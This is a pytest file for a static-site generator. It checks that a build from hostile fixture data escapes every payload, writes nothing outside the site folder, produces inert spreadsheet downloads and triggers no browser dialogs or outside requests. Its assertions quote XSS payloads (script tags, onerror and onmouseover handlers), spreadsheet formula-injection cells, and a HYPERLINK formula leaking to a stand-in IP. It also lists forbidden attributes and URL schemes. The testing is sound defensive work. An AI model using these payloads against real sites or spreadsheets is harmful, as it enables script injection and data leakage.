"""Valid data carrying hostile text (tests/fixtures/hostile/): attribute lists, raw HTML,
script tags, formula cells, tags that look like paths or javascript: URLs. The real MkDocs
build publishes it; every page shows the text and runs none of it, nothing is written outside
site/, downloads are inert (LibreOffice Calc makes no formula of any cell), and a real Chromium
sees no dialog and no request leaving the site.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import openpyxl
import pytest
from playwright.sync_api import Browser

from conftest import FIXTURES, Project, make_project, search, serve_built_site

# A hostile site built and read in Chromium and LibreOffice.
pytestmark = [pytest.mark.slow]

HOSTILE = FIXTURES / "hostile"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def files_under(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Project, set[Path]]:
    """The hostile fixture built once; also the files that appeared outside site/."""
    workspace = tmp_path_factory.mktemp("hostile")
    project = make_project(workspace / "nested" / "project", HOSTILE)
    before = files_under(workspace)
    result = project.publish()  # make build: the site and its Word files
    assert result.returncode == 0, result.stderr
    after = files_under(workspace)
    # The build's folders: site/, its lock beside it, and the cache: Word documents, whose names
    # are a digest and the edition only, the pages, search entries, finished pages and year pages kept between
    # builds and Jinja's compiled templates, named by digests (nianjian/stored.py), and the search
    # index's word cuts, one file of a fixed name. No name comes from the data.
    cache = project.root / ".cache" / "nianjian"
    stored = {cache / kind for kind in ("pages", "search", "output", "rendered/year-pages", "rendered/summary-pages", "rendered/overview-figures")}
    outside = {
        path for path in after - before
        if project.site not in path.parents
        and not (path.parent == cache / "word" and re.fullmatch(r"[0-9a-f]{64}\.(reading|formal)\.docx", path.name))
        and not (path.parent in stored and re.fullmatch(r"[0-9a-f]{40}\.bin", path.name))
        and not (path.parent == cache / "jinja" and re.fullmatch(r"__jinja2_[0-9a-f]{40}\.cache", path.name))
        and path not in (cache / "search-words.json", project.root / ".site.lock")
    }
    return project, outside


class Attributes(HTMLParser):
    """Every (tag, attribute, value) of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag, name, value or "") for name, value in attrs]


def pages(project: Project) -> list[Path]:
    return sorted(project.site.rglob("*.html"))


def test_nothing_is_written_outside_the_site(hostile_site: tuple[Project, set[Path]]) -> None:
    project, outside = hostile_site
    assert outside == set()
    assert (project.data / "metrics" / "energy.csv").exists() is False  # the traversal target of the tag
    tag_pages = {path.parent.name for path in (project.site / "tags").glob("*/index.html")}
    assert {"javascript-alert-1", "outside-energy", "img-src-x-onerror-alert-tag", "index页", "节能"} <= tag_pages
    downloads = {path.name for path in (project.site / "downloads").iterdir()}
    assert "tag-outside-energy.csv" in downloads


def test_no_page_carries_an_event_handler_or_a_script_url(hostile_site: tuple[Project, set[Path]]) -> None:
    project, _ = hostile_site
    checked = 0
    for path in pages(project):
        parser = Attributes()
        parser.feed(path.read_text(encoding="utf-8"))
        for tag, name, value in parser.found:
            where = f"{path.relative_to(project.site)} <{tag} {name}={value[:60]!r}>"
            assert not name.startswith("on"), where
            assert name not in ("autofocus", "formaction", "srcdoc"), where
            if name in ("href", "src", "action", "poster", "data"):
                assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), where
            if name == "src":
                assert not urlsplit(value).netloc, where  # nothing is loaded from another host
        checked += 1
    assert checked >= 15


def test_hostile_text_is_shown_as_text(hostile_site: tuple[Project, set[Path]]) -> None:
    project, _ = hostile_site
    page = project.page("years/2023/")
    assert "{: onclick=&quot;alert('heading')&quot; }" in page or "{: onclick=\"alert('heading')\" }" in page
    assert "&lt;script&gt;alert('raw-script')&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&quot;alert('raw-img')&quot;&gt;" in page or "&lt;img src=x onerror=\"alert('raw-img')\"&gt;" in page
    assert '<a href="../2022/">2022年报告</a>' in page  # links inside the site keep working
    assert 'href="mailto:office@example.invalid"' in page
    assert "<script>alert" not in "".join(path.read_text(encoding="utf-8") for path in pages(project))
    # Material escapes the site name itself in the logo's tooltip and not in the header: it is
    # escaped once in both, so readers see the title as typed in each.
    parser = Attributes()
    parser.feed(page)
    tooltips = {value for tag, name, value in parser.found if tag == "a" and name == "title"}
    assert "<script>alert('title')</script>年鉴" in tooltips, tooltips
    assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;年鉴" in page.split('<div class="md-header__topic">', 1)[1][:400]


def test_downloads_are_inert(hostile_site: tuple[Project, set[Path]]) -> None:
    project, _ = hostile_site
    downloads = project.site / "downloads"
    cells_seen = 0
    for csv_path in downloads.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"))))
        for row in rows:
            for value in row:
                cells_seen += 1
                if value.startswith(FORMULA_START):
                    float(value.rstrip("%").replace(",", ""))  # only plain signed numbers may start so
        xlsx_path = csv_path.with_suffix(".xlsx")
        with zipfile.ZipFile(xlsx_path) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        sheet = openpyxl.load_workbook(xlsx_path).active
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (xlsx_path.name, cell.coordinate, cell.value)
    achievements = (downloads / "achievements-2023-energy.csv").read_bytes().decode("utf-8-sig")
    assert "'@SUM(1+1)" in achievements and "'\t=1+1" in achievements and "'\r=2+2" in achievements and "'-2+3" in achievements
    sheet = openpyxl.load_workbook(downloads / "achievements-2023-energy.xlsx").active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "007" in values and "123456789012345678" in values  # codes stay text
    assert "=HYPERLINK(\"http://198.51.100.7/?leak\",\"点我\")" in [
        cell.value for row in openpyxl.load_workbook(downloads / "achievements-2023-catering.xlsx").active.iter_rows() for cell in row
    ]


# LibreOffice Calc's CSV import at its most permissive: comma, semicolon, tab and space all
# separate cells, spaces are trimmed and formulas evaluated (filter options: separators, text
# delimiter ", UTF-8, from line 1, …, token 11 trim spaces, token 13 evaluate formulas).
CALC_CSV_IMPORT = "CSV:44/59/9/32,34,76,1,,0,false,true,false,false,true,-1,true"
ODS_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
ODS_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def test_libreoffice_calc_evaluates_no_downloaded_cell(hostile_site: tuple[Project, set[Path]], tmp_path: Path) -> None:
    """Every download opened by a real spreadsheet (Calc, headless) and saved as .ods: a cell
    with table:formula is one Calc made a formula of."""
    if shutil.which("localc") is None:
        pytest.fail("LibreOffice Calc is needed: .ci/run installs libreoffice-calc")
    project, _ = hostile_site
    cells: dict[str, list[ElementTree.Element]] = {}
    for suffix, infilter in (("csv", [f"--infilter={CALC_CSV_IMPORT}"]), ("xlsx", [])):
        files = sorted((project.site / "downloads").glob(f"*.{suffix}"))
        opened = tmp_path / suffix
        subprocess.run(
            ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", *infilter,
             "--convert-to", "ods", "--outdir", str(opened), *map(str, files)],
            check=True, capture_output=True, timeout=300,
        )
        for path in files:
            content = ElementTree.fromstring(zipfile.ZipFile(opened / f"{path.stem}.ods").read("content.xml"))
            cells[path.name] = list(content.iter(f"{{{ODS_TABLE}}}table-cell"))
    formulas = [(name, cell.get(f"{{{ODS_TABLE}}}formula")) for name, found in cells.items() for cell in found if cell.get(f"{{{ODS_TABLE}}}formula")]
    assert formulas == []
    # Calc did read the files: the hostile cells arrive as text, the numbers as numbers.
    energy = {"".join(cell.itertext()): cell.get(f"{{{ODS_OFFICE}}}value-type") for cell in cells["achievements-2023-energy.csv"]}
    assert {energy["'\u3000=1+1"], energy["'＝1+1"], energy["灯具更换;=1+1"], energy["'@SUM(1+1)"]} == {"string"}
    assert energy["1200"] == "float"
    assert len(cells) == 2 * len(list((project.site / "downloads").glob("*.csv")))

@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    yield from serve_built_site(tmp_path_factory, HOSTILE)


def test_reader_sees_no_dialog_and_no_outside_request(hostile_url: str, browser: Browser) -> None:  # noqa: F811
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: urlsplit(request.url).hostname != "127.0.0.1" and outside.append(request.url))
    paths = ["", "years/", "years/2023/", "years/2022/", "areas/catering/", "areas/energy/", "plans/", "problems/",
             "compare/", "tags/", "tags/javascript-alert-1/", "tags/outside-energy/", "tags/img-src-x-onerror-alert-tag/"]
    for path in paths:
        page.goto(hostile_url + path)
        page.wait_for_load_state("networkidle")
        page.mouse.move(200, 300)
        page.keyboard.press("Tab")  # focus handlers would fire here
        for link in page.locator("article a").all()[:40]:
            link.hover()
        for text in page.locator("article h1, article h2, article h3, article em, article .nj-list li").all()[:30]:
            page_url = page.url.split("#")[0]
            text.click(position={"x": 2, "y": 2})  # click handlers would fire here (not on the ¶ link)
            if page.url.split("#")[0] != page_url:  # a heading that is a link (an area's table) was followed
                page.goto(page_url)
                page.wait_for_load_state("networkidle")
    page.wait_for_timeout(300)
    context.close()
    assert dialogs == []
    assert outside == []


def test_a_search_for_canteen_shows_the_hostile_area_name_as_text(hostile_url: str, browser: Browser) -> None:  # noqa: F811
    """Material shows the year and work area under each hit, and inserts them as HTML: the area
    name from site.yaml arrives escaped, so opening a ?q= link runs nothing."""
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    hits = search(page, hostile_url, "食堂")
    page.wait_for_timeout(300)
    labels = [tag for hit in hits for tag in hit["tags"]]
    page.close()
    assert dialogs == []
    assert "餐饮<b onmouseover=alert('area')>服务</b><img src=x onerror=alert('area-label')>" in labels, labels
